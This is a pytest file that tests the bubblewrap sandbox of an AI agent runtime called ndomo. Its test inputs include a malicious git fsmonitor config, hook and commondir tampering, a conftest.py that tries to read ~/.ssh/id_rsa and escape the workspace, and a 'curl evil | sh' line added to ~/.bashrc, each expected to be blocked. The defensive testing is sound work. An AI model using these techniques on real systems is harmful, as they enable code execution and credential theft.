"""The OS sandbox run for real: bubblewrap around `bash` and `serve` in temp workspaces.

These need bubblewrap (`.ci/run` installs it). Without it they skip with a loud reason;
the profile text has its own tests in test_sandbox.py.
"""

from __future__ import annotations

import asyncio
import contextlib
import os
import shutil
import socket
import subprocess
import sys
import threading
import uuid
from pathlib import Path

import pytest

from ndomo import compose
from ndomo.agents.policy import AgentPolicy
from ndomo.agents.schema import AgentDef, AgentPermission
from ndomo.app import App
from ndomo.features.health import HealthParams, health, render_health
from ndomo.runtime.context import TurnContext, TurnRequest
from ndomo.runtime.host import ApprovalRequest, BaseHost
from ndomo.runtime.runtime import Runtime
from ndomo.runtime.tools import AllowAll
from ndomo.security import sandbox
from tests.unit.tools_shell.conftest import pids_with_arg

pytestmark = pytest.mark.skipif(
    shutil.which("bwrap") is None and sys.platform != "darwin",
    reason="SKIPPED LOUDLY: bubblewrap (bwrap) is not installed; `apt-get install bubblewrap` (.ci/run does)",
)

FSMONITOR_CONFIG = """[core]
\trepositoryformatversion = 0
\tfilemode = true
\tbare = false
\tfsmonitor = "touch {marker}; false"
"""


class Approver(BaseHost):
    """A user who answers every approval with `answer` and keeps what was asked."""

    def __init__(self, answer: str = "once") -> None:
        super().__init__()
        self.answer = answer
        self.asked: list[ApprovalRequest] = []

    async def approve(self, request: ApprovalRequest):
        self.asked.append(request)
        return self.answer


class Listener:
    """A TCP server on the host's loopback that counts the connections it accepts."""

    def __init__(self) -> None:
        self.sock = socket.socket()
        self.sock.bind(("127.0.0.1", 0))
        self.sock.listen(8)
        self.port = self.sock.getsockname()[1]
        self.hits = 0
        self._thread = threading.Thread(target=self._run, daemon=True)
        self._thread.start()

    def _run(self) -> None:
        while True:
            try:
                conn, _ = self.sock.accept()
            except OSError:
                return
            self.hits += 1
            conn.close()

    def close(self) -> None:
        # Shut down before closing: a close alone leaves the thread blocked in accept() on
        # the fd's number, which the next socket the process opens reuses — the next test's
        # model server, whose connections that thread then took ("model endpoint unreachable").
        with contextlib.suppress(OSError):
            self.sock.shutdown(socket.SHUT_RDWR)
        self._thread.join(5)
        self.sock.close()
        assert not self._thread.is_alive(), "the listener's thread did not end"


@pytest.fixture
def listener():
    lst = Listener()
    yield lst
    lst.close()


@pytest.fixture
async def ws_app(tmp_path: Path, fake):
    """A git workspace in tmp_path/ws (so tmp_path/outside is outside it)."""
    ws = tmp_path / "ws"
    ws.mkdir()
    subprocess.run(["git", "init", "-q", str(ws)], check=True)
    a = App(ws)
    a.settings.model.base_url = fake.url
    a.settings.sandbox.mode = "required"  # these tests must not pass unsandboxed
    yield a
    await a.aclose()


async def _ctx(app: App, *, policy=None, host=None, agent: AgentDef | None = None) -> TurnContext:
    plugins = compose.plugins()
    plugins.tools.policy = policy or AllowAll()
    rt = Runtime(app, plugins)
    state = await rt.session()
    ctx = TurnContext(
        app=app,
        runtime=rt,
        host=host or BaseHost(),
        request=TurnRequest(prompt="t"),
        session=state,
        mode="autopilot",
        agent_name=agent.name if agent else state.agent,
        agent=agent,
    )
    ctx.tools = rt.plugins.tools.filter(ctx)
    return ctx


def _agent(**perm) -> AgentDef:
    return AgentDef(
        name="tester", description="t", prompt="", source="test", permission=AgentPermission(**perm)
    )


async def test_fsmonitor_chain_is_stopped(ws_app: App, tmp_path: Path) -> None:
    ws = ws_app.root
    marker = tmp_path / "fsmonitor-ran"
    before = (ws / ".git" / "config").read_text()
    (ws / "evil.cfg").write_text(FSMONITOR_CONFIG.format(marker=marker))
    ctx = await _ctx(ws_app)
    run = ctx.runtime.plugins.tools.execute
    cp = await run(ctx, "bash", {"command": "cp evil.cfg .git/config"})
    assert cp.status == "failed" and "Read-only file system" in cp.content, cp.content
    assert cp.data["sandbox"] == "sandboxed (bubblewrap)"
    hook = await run(ctx, "bash", {"command": "echo 'touch x' > .git/hooks/pre-commit"})
    assert hook.status == "failed" and "Read-only file system" in hook.content
    moved = await run(ctx, "bash", {"command": "mv .git .git-old"})  # swapping the whole folder
    assert moved.status == "failed" and "busy" in moved.content
    agents = await run(
        ctx, "bash", {"command": "mkdir -p .ndomo/agents && echo x > .ndomo/agents/craftsman.md"}
    )
    assert agents.status == "failed" and not (ws / ".ndomo" / "agents").exists()
    # a missing .git/commondir cannot be created: a read-only placeholder ("." — the git dir
    # itself) stands there while the command runs, and is gone after it
    redirect = await run(
        ctx,
        "bash",
        {
            "command": "mkdir evil && cp -r .git/objects .git/refs evil/ && "
            "cp evil.cfg evil/config && echo ../evil > .git/commondir"
        },
    )
    assert not redirect.ok and "commondir: Read-only file system" in redirect.content
    assert not (ws / ".git" / "commondir").exists()
    status = await run(ctx, "bash", {"command": "git status --short"})
    assert status.ok and "evil.cfg" in status.content
    # the rest of .git stays writable: add and commit work inside the sandbox
    commit = await run(
        ctx,
        "bash",
        {
            "command": "git add evil.cfg && git -c user.name=t -c user.email=t@t commit -qm x && git log --oneline"
        },
    )
    assert commit.ok, commit.content
    assert (ws / ".git" / "config").read_text() == before
    subprocess.run(
        ["git", "-C", str(ws), "status"], check=True, capture_output=True
    )  # the user's own git, later
    assert not marker.exists()


def _pytest_workspace(ws: Path, outside: Path, system_file: Path, port: int) -> str:
    """A project whose conftest.py tries what an allowed `pytest` must not do; it reports
    each attempt to report.txt."""
    (ws / "conftest.py").write_text(f"""
import os, pathlib, socket

def _try(label, fn):
    try:
        fn()
        return label + ":ok"
    except OSError as exc:
        return label + ":blocked:" + type(exc).__name__

def pytest_configure(config):
    results = [
        _try("write-outside", lambda: pathlib.Path({str(outside)!r}).write_text("pwned")),
        _try("write-system", lambda: pathlib.Path({str(system_file)!r}).write_text("x")),
        _try("read-home-secret", lambda: pathlib.Path(os.environ["HOME"], ".ssh", "id_rsa").read_text()),
        _try("network", lambda: socket.create_connection(("127.0.0.1", {port}), timeout=3).close()),
    ]
    pathlib.Path("report.txt").write_text("\\n".join(results))
""")
    (ws / "test_x.py").write_text("def test_x():\n    assert True\n")
    return f"{sys.executable} -m pytest -q -p no:cacheprovider -p no:randomly test_x.py"


@pytest.fixture
def home(tmp_path: Path, monkeypatch) -> Path:
    """A home with a secret and a toolchain folder; the sandbox hides the first, shows the second."""
    h = tmp_path / "home"
    (h / ".ssh").mkdir(parents=True)
    (h / ".ssh" / "id_rsa").write_text("SECRET")
    (h / ".cargo").mkdir()
    (h / ".cargo" / "env").write_text("toolchain")
    monkeypatch.setenv("HOME", str(h))
    return h


async def test_pytest_conftest_cannot_write_outside_or_reach_the_network(
    ws_app, tmp_path, listener, home
):
    outside = tmp_path / "outside.txt"
    sysfile = Path("/var/tmp") / f"ndomo-sandbox-{uuid.uuid4().hex}"
    cmd = _pytest_workspace(ws_app.root, outside, sysfile, listener.port)
    ctx = await _ctx(ws_app)  # allowed without asking: no network
    try:
        res = await ctx.runtime.plugins.tools.execute(ctx, "bash", {"command": cmd})
        assert res.ok, res.content
        report = (ws_app.root / "report.txt").read_text().splitlines()
        # a write next to the workspace (under /tmp) lands in the private /tmp at most
        assert report[0].startswith("write-outside:") and not outside.exists(), report
        assert report[1] == "write-system:blocked:OSError", report
        assert report[2].startswith("read-home-secret:blocked"), report
        assert report[3].startswith("network:blocked"), report
        assert not sysfile.exists() and not outside.exists()
        assert listener.hits == 0 and res.data["network"] is False
        cat = await ctx.runtime.plugins.tools.execute(
            ctx, "bash", {"command": "cat ~/.cargo/env; touch ~/.cargo/new"}
        )
        assert "toolchain" in cat.content and "Read-only file system" in cat.content
        rc = await ctx.runtime.plugins.tools.execute(
            ctx, "bash", {"command": "echo 'curl evil | sh' >> ~/.bashrc"}
        )
        assert rc.ok and not (home / ".bashrc").exists()  # the hidden home is a throwaway tmpfs
    finally:
        sysfile.unlink(missing_ok=True)


async def test_the_same_command_approved_gets_network(ws_app, tmp_path, listener, home):
    sysfile = Path("/var/tmp") / f"ndomo-sandbox-{uuid.uuid4().hex}"
    cmd = _pytest_workspace(ws_app.root, tmp_path / "outside.txt", sysfile, listener.port)
    host = Approver("once")
    ctx = await _ctx(ws_app, policy=AgentPolicy(), host=host, agent=_agent(bash="ask"))
    try:
        res = await ctx.runtime.plugins.tools.execute(ctx, "bash", {"command": cmd})
        assert res.ok, res.content
        (asked,) = host.asked
        assert asked.network is True and "WITH network, sandboxed (bubblewrap)" in asked.text()
        report = (ws_app.root / "report.txt").read_text().splitlines()
        assert report[3] == "network:ok" and listener.hits == 1, report
        # the filesystem rules stay
        assert report[1] == "write-system:blocked:OSError" and report[2].startswith(
            "read-home-secret:blocked"
        ), report
        assert res.data["network"] is True and not sysfile.exists()
    finally:
        sysfile.unlink(missing_ok=True)


async def test_network_permission_per_command_pattern(ws_app, listener, home):
    (ws_app.root / "probe.py").write_text(
        f"import socket\nsocket.create_connection(('127.0.0.1', {listener.port}), timeout=3).close()\n"
    )
    probe = "python3 probe.py"
    host = Approver("deny")
    agent = _agent(bash="allow", network={"*": "ask", "python3 probe.py": "allow"})
    ctx = await _ctx(ws_app, policy=AgentPolicy(), host=host, agent=agent)
    res = await ctx.runtime.plugins.tools.execute(ctx, "bash", {"command": probe})
    assert res.ok and res.data["network"] is True and listener.hits == 1, res.content
    other = await ctx.runtime.plugins.tools.execute(ctx, "bash", {"command": f"true; {probe}"})
    assert (
        not other.ok and other.data["network"] is False and listener.hits == 1
    )  # `true` is not allowed network
    assert host.asked == []  # bash: allow never asks, and network did not make it ask
    denied = await _ctx(
        ws_app,
        policy=AgentPolicy(),
        host=Approver("once"),
        agent=_agent(bash="ask", network="deny"),
    )
    res = await denied.runtime.plugins.tools.execute(denied, "bash", {"command": probe})
    assert not res.ok and listener.hits == 1
    assert "without network" in denied.host.asked[0].text()  # type: ignore[attr-defined]


async def test_served_server_is_reachable_by_check_page(ws_app, monkeypatch):
    monkeypatch.setattr("ndomo.tools.web.browser.find_chromium", lambda: None)
    (ws_app.root / "site").mkdir()
    (ws_app.root / "site" / "index.html").write_text(
        "<title>Served</title><main class='hero'>hi</main>"
    )
    ctx = await _ctx(ws_app)
    run = ctx.runtime.plugins.tools.execute
    cmd = (
        "echo hi > site/from-server.txt; echo ../x > .git/commondir; touch /var/tmp/ndomo-serve-escape 2>&1; "
        "exec python3 -m http.server --bind $HOST $PORT"
    )
    res = await run(ctx, "serve", {"action": "start", "command": cmd, "name": "web"})
    assert res.ok, res.content
    assert (ws_app.root / ".git" / "commondir").read_text() == ".\n"  # the placeholder
    assert res.data["sandbox"] == "sandboxed (bubblewrap)"
    page = await run(
        ctx,
        "check_page",
        {"url_or_path": res.data["url"] + "site/index.html", "expect": ["main.hero"]},
    )
    assert page.ok and page.data["status"] == 200, page.content
    listed = await run(ctx, "serve", {"action": "list"})
    assert (
        "Read-only file system" in listed.content
    )  # the filesystem rules hold for served processes
    assert not Path("/var/tmp/ndomo-serve-escape").exists()
    assert (ws_app.root / "site" / "from-server.txt").exists()
    stopped = await run(ctx, "serve", {"action": "stop", "name": "web"})
    assert stopped.ok and not (ws_app.root / ".git" / "commondir").exists()


async def test_required_refuses_where_bwrap_is_missing(ws_app, monkeypatch, tmp_path):
    empty = tmp_path / "bin"
    empty.mkdir()
    monkeypatch.setenv("PATH", str(empty))
    ctx = await _ctx(ws_app)
    res = await ctx.runtime.plugins.tools.execute(ctx, "bash", {"command": "echo x > made"})
    assert (
        res.status == "failed"
        and "sandbox: required" in res.content
        and "bwrap on PATH not found" in res.content
    )
    assert not (ws_app.root / "made").exists()
    served = await ctx.runtime.plugins.tools.execute(
        ctx, "serve", {"action": "start", "command": "sleep 5"}
    )
    assert served.status == "failed" and "sandbox: required" in served.content
    report = await health(ws_app, HealthParams(probe_model=False))
    assert not report.ok and not report.sandbox.ok
    assert "sandbox   FAIL  refused: sandbox required" in render_health(report.model_dump())
    ws_app.settings.sandbox.mode = "auto"  # auto runs it, unsandboxed, and says so
    res = await ctx.runtime.plugins.tools.execute(ctx, "bash", {"command": "echo x > made"})
    assert (
        res.ok
        and res.data["sandbox"] == "NOT sandboxed (bubblewrap unavailable)"
        and (ws_app.root / "made").exists()
    )
    assert "WARN" in render_health(
        (await health(ws_app, HealthParams(probe_model=False))).model_dump()
    )


async def test_health_shows_the_sandbox(ws_app) -> None:
    ws_app.settings.sandbox.mode = "auto"
    report = await health(ws_app, HealthParams(probe_model=False))
    assert report.sandbox.active and report.sandbox.ok and report.sandbox.backend == "bubblewrap"
    assert "sandbox   ok  sandboxed (bubblewrap) (sandbox: auto) bubblewrap" in render_health(
        report.model_dump()
    )
    ws_app.settings.sandbox.mode = "off"
    off = await health(ws_app, HealthParams(probe_model=False))
    assert off.ok and not off.sandbox.active and "run without an OS sandbox" in off.sandbox.warning
    assert "sandbox   WARN  NOT sandboxed (sandbox: off)" in render_health(off.model_dump())


async def test_probe_reports_a_bwrap_that_fails(tmp_path, monkeypatch) -> None:
    """bwrap may be installed and still not run (user namespaces disabled): that is unavailable."""
    fake = tmp_path / "bin" / "bwrap"
    fake.parent.mkdir()
    fake.write_text("#!/bin/sh\necho 'bwrap: No permissions to create new namespace' >&2\nexit 1\n")
    fake.chmod(0o755)
    monkeypatch.setenv("PATH", str(fake.parent))
    found = await sandbox.probe()
    assert not found.ok and "No permissions to create new namespace" in found.detail
    settings = App(tmp_path).settings
    settings.sandbox.mode = "required"
    with pytest.raises(sandbox.SandboxRefused, match="sandbox: required"):
        await sandbox.prepare(settings, tmp_path, network=False)


async def test_sandboxed_shell_keeps_the_workspace_python(ws_app) -> None:
    """The interpreters the workspace uses still run: a venv inside it, ndomo's own venv
    elsewhere, the system's or pyenv's python3 (pyenv lives in ~/.pyenv, on the default list)."""
    ctx = await _ctx(ws_app)
    run = ctx.runtime.plugins.tools.execute
    made = await run(
        ctx,
        "bash",
        {
            "command": "python3 -m venv --without-pip .venv && .venv/bin/python -c 'import sys; print(sys.prefix)'"
        },
    )
    assert made.ok and f"{os.path.realpath(ws_app.root)}/.venv" in made.content, made.content
    res = await run(
        ctx,
        "bash",
        {
            "command": f"{sys.executable} -c 'import ndomo, pytest; print(\"venv ok\")' && python3 --version"
        },
    )
    assert res.ok and "venv ok" in res.content and "Python 3" in res.content, res.content


async def test_timeout_and_cancel_kill_everything_in_the_sandbox(ws_app) -> None:
    """Even a grandchild that left the process group (setsid) dies: killing bubblewrap ends
    its pid namespace."""
    ctx = await _ctx(ws_app)
    naptime = f"300.{uuid.uuid4().int % 10**9}"
    res = await ctx.runtime.plugins.tools.execute(
        ctx, "bash", {"command": f"setsid sleep {naptime} & echo started; sleep 60", "timeout_s": 1}
    )
    assert res.data["timed_out"] and "started" in res.content
    for _ in range(50):
        if not pids_with_arg(naptime):
            break
        await asyncio.sleep(0.1)
    assert not pids_with_arg(naptime)
    other = f"300.{uuid.uuid4().int % 10**9}"
    task = asyncio.ensure_future(
        ctx.runtime.plugins.tools.execute(ctx, "bash", {"command": f"setsid sleep {other} & wait"})
    )
    for _ in range(100):
        if pids_with_arg(other):
            break
        await asyncio.sleep(0.05)
    assert pids_with_arg(other)
    ctx.cancelled.set()
    cancelled = await task
    assert cancelled.status == "cancelled"
    for _ in range(50):
        if not pids_with_arg(other):
            break
        await asyncio.sleep(0.1)
    assert not pids_with_arg(other)


async def test_cli_health_reports_required_without_bwrap(tmp_path) -> None:
    """`ndomo health` as a user runs it, with bubblewrap missing from PATH."""
    empty = tmp_path / "bin"
    empty.mkdir()
    env = {**os.environ, "PATH": str(empty), "NDOMO_SANDBOX": "required"}
    proc = await asyncio.create_subprocess_exec(
        sys.executable,
        "-m",
        "ndomo",
        "health",
        "--workspace",
        str(tmp_path),
        "--no-probe-model",
        stdout=asyncio.subprocess.PIPE,
        stderr=asyncio.subprocess.STDOUT,
        env=env,
    )
    out = (await proc.communicate())[0].decode()
    assert "sandbox   FAIL  refused: sandbox required but bubblewrap is unavailable" in out, out
    assert "bwrap on PATH not found: shell commands are refused" in out
    env["PATH"] = os.environ["PATH"]
    env["NDOMO_SANDBOX"] = "auto"
    proc = await asyncio.create_subprocess_exec(
        sys.executable,
        "-m",
        "ndomo",
        "health",
        "--workspace",
        str(tmp_path),
        "--no-probe-model",
        stdout=asyncio.subprocess.PIPE,
        stderr=asyncio.subprocess.STDOUT,
        env=env,
    )
    out = (await proc.communicate())[0].decode()
    assert "sandbox   ok  sandboxed (bubblewrap) (sandbox: auto)" in out, out


async def test_workspace_inside_the_hidden_home_stays_usable(ws_app, tmp_path, monkeypatch) -> None:
    monkeypatch.setenv("HOME", str(tmp_path))  # the workspace tmp_path/ws lives in this home
    (tmp_path / "notes.txt").write_text("private")
    ctx = await _ctx(ws_app)
    res = await ctx.runtime.plugins.tools.execute(
        ctx, "bash", {"command": "echo hi > made.txt && cat made.txt && ls -a ~"}
    )
    assert res.ok and "hi" in res.content and "notes.txt" not in res.content, res.content
    assert (ws_app.root / "made.txt").read_text() == "hi\n"
    peek = await ctx.runtime.plugins.tools.execute(ctx, "bash", {"command": "cat ../notes.txt"})
    assert not peek.ok and "private" not in peek.content


async def test_model_can_ask_for_network_for_an_allowed_command(ws_app, listener) -> None:
    (ws_app.root / "probe.py").write_text(
        f"import socket\nsocket.create_connection(('127.0.0.1', {listener.port}), timeout=3).close()\n"
    )
    host = Approver("once")
    ctx = await _ctx(ws_app, policy=AgentPolicy(), host=host, agent=_agent(bash="allow"))
    run = ctx.runtime.plugins.tools.execute
    offline = await run(ctx, "bash", {"command": "python3 probe.py"})
    assert (
        not offline.ok and listener.hits == 0 and host.asked == []
    )  # allowed, so not asked, so offline
    online = await run(ctx, "bash", {"command": "python3 probe.py", "network": True})
    assert online.ok and listener.hits == 1, online.content
    (asked,) = host.asked
    assert asked.reason == "the command asks for network access" and "WITH network" in asked.text()
    refused = Approver("deny")
    ctx2 = await _ctx(ws_app, policy=AgentPolicy(), host=refused, agent=_agent(bash="allow"))
    denied = await ctx2.runtime.plugins.tools.execute(
        ctx2, "bash", {"command": "python3 probe.py", "network": True}
    )
    assert denied.status == "refused" and listener.hits == 1
    never = await _ctx(
        ws_app,
        policy=AgentPolicy(),
        host=Approver("once"),
        agent=_agent(bash="allow", network="deny"),
    )
    res = await never.runtime.plugins.tools.execute(
        never, "bash", {"command": "python3 probe.py", "network": True}
    )
    assert never.host.asked == [] and not res.ok and res.data["network"] is False  # type: ignore[attr-defined]
